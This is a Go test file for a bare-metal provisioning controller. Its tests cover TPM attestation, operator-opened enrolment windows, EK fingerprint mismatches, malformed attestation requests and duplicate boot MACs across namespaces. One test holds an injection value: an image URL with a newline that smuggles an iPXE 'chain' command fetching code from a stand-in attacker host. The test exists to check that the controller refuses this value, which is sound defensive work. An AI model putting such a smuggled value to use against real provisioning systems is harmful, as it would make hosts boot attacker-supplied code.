package baremetalhost_test

import (
	"context"
	"fmt"
	"net/http"
	"testing"
	"time"

	"github.com/google/go-tpm/tpm2"
	. "github.com/onsi/gomega"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"sigs.k8s.io/controller-runtime/pkg/client"

	metal3v1 "github.com/metal3-io/baremetal-operator/apis/metal3.io/v1alpha1"

	wire "github.com/yonder-dev/yonder/hostruntime/attest"
	"github.com/yonder-dev/yonder/hostruntime/attest/swtpm"
	"github.com/yonder-dev/yonder/infrastructure-baremetal/internal/attest"
	"github.com/yonder-dev/yonder/infrastructure-baremetal/internal/inventory"
	"github.com/yonder-dev/yonder/infrastructure-baremetal/reconcilers/baremetalhost"
	"github.com/yonder-dev/yonder/test/redfishsim"
)

// ekFingerprint is what an operator registers out of band for the host's TPM (from its EK certificate).
func ekFingerprint(t *testing.T, tpm *swtpm.TPM) string {
	t.Helper()
	conn, err := wire.OpenTPM(tpm.Socket)
	if err != nil {
		t.Fatal(err)
	}
	defer func() { _ = conn.Close() }()
	keys, err := wire.LoadKeys(conn)
	if err != nil {
		t.Fatal(err)
	}
	defer func() { _ = keys.Close() }()
	fp, err := attest.EKFingerprint(tpm2.Marshal(keys.EK.Public))
	if err != nil {
		t.Fatal(err)
	}
	return fp
}

func noWindow(h *metal3v1.BareMetalHost) {
	delete(h.Annotations, baremetalhost.EnrolmentWindowAnnotation)
}

// Enrolment is explicit. A host without a registered EK or an open window is refused (EnrolmentClosed)
// without being powered off, and provisions on a later attempt once an operator opens a window; an
// expired window is closed; a registered EK fingerprint enrols its TPM without a window, and another TPM
// against a registered fingerprint, presented from the host's own DHCP lease, is a real attestation
// failure (EKMismatch: powered off).
func TestEnrolmentIsExplicit(t *testing.T) {
	g := NewWithT(t)
	ctx := context.Background()
	ns := env.CreateNamespace(ctx, t, "bmh-enrol").Name
	lab := startLeasingBootLab(t, env.Client)
	hosts := newPXEHosts(t, lab)
	macs := map[string]string{"closed": "52:54:00:50:00:01", "expired": "52:54:00:50:00:02", "registered": "52:54:00:50:00:03", "wrong": "52:54:00:50:00:04"}
	for id, mac := range macs {
		hosts.add(id, mac)
	}
	sim := startSim(t, hosts)
	for id, mac := range macs {
		sim.AddSystem(redfishsim.DefaultSystem(id, mac))
	}
	r := testReconciler(lab.inv)
	r.ProvisionTimeout, r.MaxProvisionAttempts = 6*time.Second, 3
	startController(t, r, ns)

	closed := newHost(g, ns, "closed", sim, "closed", macs["closed"], bmcPass, noWindow)
	expired := newHost(g, ns, "expired", sim, "expired", macs["expired"], bmcPass, func(h *metal3v1.BareMetalHost) {
		h.Annotations[baremetalhost.EnrolmentWindowAnnotation] = time.Now().Add(-time.Minute).UTC().Format(time.RFC3339)
	})
	registered := newHost(g, ns, "registered", sim, "registered", macs["registered"], bmcPass, noWindow, func(h *metal3v1.BareMetalHost) {
		h.Annotations[baremetalhost.EKFingerprintAnnotation] = ekFingerprint(t, hosts.tpms["registered"])
	})
	wrong := newHost(g, ns, "wrong", sim, "wrong", macs["wrong"], bmcPass, func(h *metal3v1.BareMetalHost) {
		// Registered for the TPM of another machine; the window does not override a registered EK. Its
		// boot asks from its reservation, so the refused session is the host's own.
		h.Annotations[baremetalhost.EKFingerprintAnnotation] = ekFingerprint(t, hosts.tpms["registered"])
		h.Annotations[baremetalhost.BootAddressAnnotation] = "127.0.0.1"
	})
	for _, h := range []*metal3v1.BareMetalHost{closed, expired, registered, wrong} {
		g.Eventually(state(h)).Should(Equal(metal3v1.StateAvailable))
		g.Expect(condition(h, baremetalhost.BareMetalHostEKTrustCondition)(g)).To(And(HaveField("Status", metav1.ConditionTrue),
			HaveField("Reason", baremetalhost.BareMetalHostEKRootsConfiguredReason)))
		g.Expect(getHost(g, h).Annotations).NotTo(HaveKey(baremetalhost.EnrolmentAnnotation))
		claim(g, ns, h, "data-of-"+h.Name)
	}

	// No window: refused by name, nothing pinned or released, the host stays on and the attempt waits.
	g.Eventually(condition(closed, baremetalhost.BareMetalHostAttestedCondition)).Should(HaveField("Reason", wire.ReasonEnrolmentClosed))
	g.Eventually(condition(closed, baremetalhost.BareMetalHostProvisionedCondition)).Should(And(
		HaveField("Reason", baremetalhost.BareMetalHostAttestationRefusedReason), HaveField("Message", ContainSubstring("kubectl yonder host enrol"))))
	got := getHost(g, closed)
	g.Expect(got.Annotations).NotTo(HaveKey(baremetalhost.EnrolmentAnnotation))
	g.Expect(got.Status.PoweredOn).To(BeTrue())
	g.Expect(sim.State("closed").PoweredOn).To(BeTrue(), "a closed window is no evidence against the host: it is not powered off")
	_, data, _ := hosts.snapshot("closed")
	g.Expect(data).To(BeEmpty())

	g.Eventually(condition(expired, baremetalhost.BareMetalHostAttestedCondition)).Should(And(
		HaveField("Reason", wire.ReasonEnrolmentClosed), HaveField("Message", ContainSubstring("window closed at"))))
	g.Expect(getHost(g, expired).Annotations).NotTo(HaveKey(baremetalhost.EnrolmentAnnotation))

	// The registered EK enrols without a window.
	g.Eventually(state(registered)).Should(Equal(metal3v1.StateProvisioned))
	g.Expect(getHost(g, registered).Annotations).To(HaveKey(baremetalhost.EnrolmentAnnotation))
	g.Eventually(func() []string { _, d, _ := hosts.snapshot("registered"); return d }).Should(Equal([]string{"data-of-registered"}))

	// Another TPM than the registered one: refused as EKMismatch, a real failure, powered off, open window or not.
	g.Eventually(condition(wrong, baremetalhost.BareMetalHostProvisionedCondition)).Should(And(
		HaveField("Reason", baremetalhost.BareMetalHostAttestationFailedReason), HaveField("Message", ContainSubstring(wire.ReasonEKMismatch))))
	g.Eventually(func() bool { return sim.State("wrong").PoweredOn }).Should(BeFalse())
	g.Expect(getHost(g, wrong).Annotations).NotTo(HaveKey(baremetalhost.EnrolmentAnnotation))
	_, data, _ = hosts.snapshot("wrong")
	g.Expect(data).To(BeEmpty())

	// The operator opens a window (what `kubectl yonder host enrol closed --for 30m` writes): the next
	// attempt, after the refused one timed out, pins the TPM and provisions.
	patchHost(g, closed, func(h *metal3v1.BareMetalHost) {
		h.Annotations[baremetalhost.EnrolmentWindowAnnotation] = time.Now().Add(30 * time.Minute).UTC().Format(time.RFC3339)
	})
	g.Eventually(state(closed), "60s").Should(Equal(metal3v1.StateProvisioned))
	got = getHost(g, closed)
	g.Expect(got.Annotations).To(HaveKey(baremetalhost.EnrolmentAnnotation))
	g.Expect(got.Annotations).NotTo(HaveKey(baremetalhost.EnrolmentWindowAnnotation), "the pin closes the window")
	g.Eventually(func() []string { _, d, _ := hosts.snapshot("closed"); return d }).Should(Equal([]string{"data-of-closed"}))
	boots, _, _ := hosts.snapshot("closed")
	g.Expect(boots).To(Equal(2), "one refused attempt, one that enrolled")
}

// A refetched script and a malformed /attestation/v1/start never power a provisioning host off: the host
// fetches its script twice, sends a start request whose EK does not decode with the first ticket, then
// attests with the second ticket, and is provisioned by that one PXE boot.
func TestRefusedRequestsNeverPowerOff(t *testing.T) {
	t.Parallel()
	g := NewWithT(t)
	ctx := context.Background()
	ns := env.CreateNamespace(ctx, t, "bmh-malformed").Name
	lab := startBootLab(t, env.Client)
	hosts := newPXEHosts(t, lab)
	hosts.add("s1", "52:54:00:51:00:01")
	hosts.bootAs["s1"] = func(mac string, tpm *swtpm.TPM) ([]byte, error) {
		ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
		defer cancel()
		_, first, err := hosts.script(ctx, mac)
		if err != nil {
			return nil, err
		}
		server, second, err := hosts.script(ctx, mac)
		if err != nil {
			return nil, err
		}
		// A start request whose EK and AK public areas do not decode, with a valid ticket.
		if err := startMalformed(ctx, http.DefaultClient, server, first); err != nil {
			return nil, err
		}
		// The real attestation lands only once the controller has recorded the refusal on the host, so
		// the test proves that a recorded refusal leaves the attempt running.
		if err := awaitRefusalRecorded(ns, "h1", wire.ReasonMalformedRequest); err != nil {
			return nil, err
		}
		return attestWith(ctx, server, second, tpm)
	}
	sim := startSim(t, hosts)
	sim.AddSystem(redfishsim.DefaultSystem("s1", "52:54:00:51:00:01"))
	startController(t, testReconciler(lab.inv), ns)
	h := newHost(g, ns, "h1", sim, "s1", "52:54:00:51:00:01", bmcPass)
	t.Cleanup(func() { deleteHost(t, h) })
	g.Eventually(state(h)).Should(Equal(metal3v1.StateAvailable))
	claim(g, ns, h, "survives-refusals")
	g.Eventually(state(h)).Should(Equal(metal3v1.StateProvisioned))
	g.Eventually(func() []string { _, d, _ := hosts.snapshot("s1"); return d }).Should(Equal([]string{"survives-refusals"}))
	boots, _, errs := hosts.snapshot("s1")
	g.Expect(errs).To(BeEmpty())
	g.Expect(boots).To(Equal(1), "the refusal neither failed nor retried the attempt")
	g.Expect(sim.State("s1").PoweredOn).To(BeTrue())
	got := getHost(g, h)
	g.Expect(got.Status.ErrorCount).To(BeZero())
	g.Expect(condition(h, baremetalhost.BareMetalHostAttestedCondition)(g).Reason).To(Equal(attest.ReasonReleased))
}

// awaitRefusalRecorded waits (up to a minute) until the controller has set host ns/name's Provisioned
// condition to AttestationRefused for the given boot server reason. It runs on the simulated host's
// goroutine, so it returns the failure instead of failing the test there.
func awaitRefusalRecorded(ns, name, reason string) error {
	var failure string
	g := NewGomega(func(message string, _ ...int) { failure = message })
	h := &metal3v1.BareMetalHost{ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: name}}
	if !g.Eventually(condition(h, baremetalhost.BareMetalHostProvisionedCondition)).WithTimeout(time.Minute).WithPolling(200 * time.Millisecond).Should(And(
		HaveField("Reason", baremetalhost.BareMetalHostAttestationRefusedReason), HaveField("Message", ContainSubstring(reason)))) {
		return fmt.Errorf("the controller never recorded the %s refusal on host %s/%s: %s", reason, ns, name, failure)
	}
	return nil
}

// Boot MACs are unique across every managed host in every namespace: a host in another namespace that
// names a MAC an earlier host already boots from gets DuplicateBootMAC, is never put in the boot table
// (so it cannot take over the other host's script, ticket or data) and is never PXE-booted; deleting it
// leaves the first host's boot entry alone.
func TestDuplicateBootMACAcrossNamespaces(t *testing.T) {
	t.Parallel()
	g := NewWithT(t)
	ctx := context.Background()
	nsA := env.CreateNamespace(ctx, t, "bmh-mac-a").Name
	nsB := env.CreateNamespace(ctx, t, "bmh-mac-b").Name
	lab := startBootLab(t, env.Client)
	hosts := newPXEHosts(t, lab) // no TPMs: the first host stays waiting for its PXE boot, in the table
	const mac = "52:54:00:52:00:01"
	sim := startSim(t, hosts)
	sim.AddSystem(redfishsim.DefaultSystem("a", mac))
	sim.AddSystem(redfishsim.DefaultSystem("b", mac))
	r := testReconciler(lab.inv)
	r.ProvisionTimeout = 5 * time.Minute
	startController(t, r, nsA, nsB)

	a := newHost(g, nsA, "a", sim, "a", mac, bmcPass)
	g.Eventually(state(a)).Should(Equal(metal3v1.StateAvailable))
	claim(g, nsA, a, "tenant-a")
	inTable := func() string { h, _ := lab.inv.HostByMAC(mustMAC(mac)); return h.Name }
	g.Eventually(inTable).Should(Equal(nsA + "/a"))

	b := newHost(g, nsB, "b", sim, "b", "52:54:00:52:00:01", bmcPass) // the same MAC, written another way would match too
	g.Eventually(state(b)).Should(Equal(metal3v1.StateAvailable))
	claim(g, nsB, b, "tenant-b")
	g.Eventually(condition(b, baremetalhost.BareMetalHostBootMACUniqueCondition)).Should(And(HaveField("Status", metav1.ConditionFalse),
		HaveField("Reason", baremetalhost.BareMetalHostDuplicateBootMACReason), HaveField("Message", ContainSubstring("in namespace "+nsA))))
	g.Expect(condition(b, baremetalhost.BareMetalHostProvisionedCondition)(g).Reason).To(Equal(baremetalhost.BareMetalHostDuplicateBootMACReason))
	g.Expect(condition(a, baremetalhost.BareMetalHostBootMACUniqueCondition)(g).Status).To(Equal(metav1.ConditionTrue))
	g.Consistently(inTable, "3s").Should(Equal(nsA + "/a"))
	g.Expect(sim.State("b").PXEBoots).To(BeZero())

	g.Expect(env.Delete(ctx, b)).To(Succeed())
	g.Eventually(func() bool {
		return apierrors.IsNotFound(env.Get(ctx, client.ObjectKeyFromObject(b), &metal3v1.BareMetalHost{}))
	}).Should(BeTrue())
	g.Consistently(inTable, "2s").Should(Equal(nsA+"/a"), "the duplicate's deletion did not remove the first host's boot entry")
}

// An image URL with a newline (or blank) is refused before the host boots (the URL is not in the iPXE
// script, which it could inject commands into, but it would fail in the ramdisk): the host gets
// InvalidBootParameter and never enters the boot table.
func TestImageURLInjectionRefused(t *testing.T) {
	t.Parallel()
	g := NewWithT(t)
	ctx := context.Background()
	ns := env.CreateNamespace(ctx, t, "bmh-inject").Name
	lab := startBootLab(t, env.Client)
	hosts := newPXEHosts(t, lab)
	hosts.add("s1", "52:54:00:53:00:01")
	sim := startSim(t, hosts)
	sim.AddSystem(redfishsim.DefaultSystem("s1", "52:54:00:53:00:01"))
	startController(t, testReconciler(lab.inv), ns)
	h := newHost(g, ns, "h1", sim, "s1", "52:54:00:53:00:01", bmcPass)
	// Boot MACs are unique across namespaces: the host goes (while the controller still runs to take its
	// finalizer off) so that a second run of this test (-count=2) can register the same MAC again.
	t.Cleanup(func() { deleteHost(t, h) })
	g.Eventually(state(h)).Should(Equal(metal3v1.StateAvailable))
	// The URL is in the claim itself: a claim with a clean URL, edited afterwards, could be PXE-booted
	// in between (it was, on a warm second run).
	claim(g, ns, h, "never", func(h *metal3v1.BareMetalHost) {
		h.Spec.Image.URL = "http://images.example/live.iso\nchain http://evil.example/x"
	})
	g.Eventually(condition(h, baremetalhost.BareMetalHostProvisionedCondition)).Should(And(
		HaveField("Reason", inventory.ReasonInvalidBootParameter), HaveField("Message", ContainSubstring("spec.image.url"))))
	g.Expect(getHost(g, h).Status.ErrorType).To(Equal(metal3v1.ProvisioningError))
	_, ok := lab.inv.HostByMAC(mustMAC("52:54:00:53:00:01"))
	g.Expect(ok).To(BeFalse())
	g.Consistently(func() int { return sim.State("s1").PXEBoots }, "2s").Should(BeZero())
}

// deleteHost deletes h and waits until the controller has removed its finalizer and the host is gone.
func deleteHost(t *testing.T, h *metal3v1.BareMetalHost) {
	t.Helper()
	g := NewWithT(t)
	ctx := context.Background()
	g.Expect(client.IgnoreNotFound(env.Delete(ctx, h))).To(Succeed())
	g.Eventually(func() error {
		return env.GetAPIReader().Get(ctx, client.ObjectKeyFromObject(h), &metal3v1.BareMetalHost{})
	}, "60s").Should(Satisfy(apierrors.IsNotFound), "host %s/%s is deleted", h.Namespace, h.Name)
}
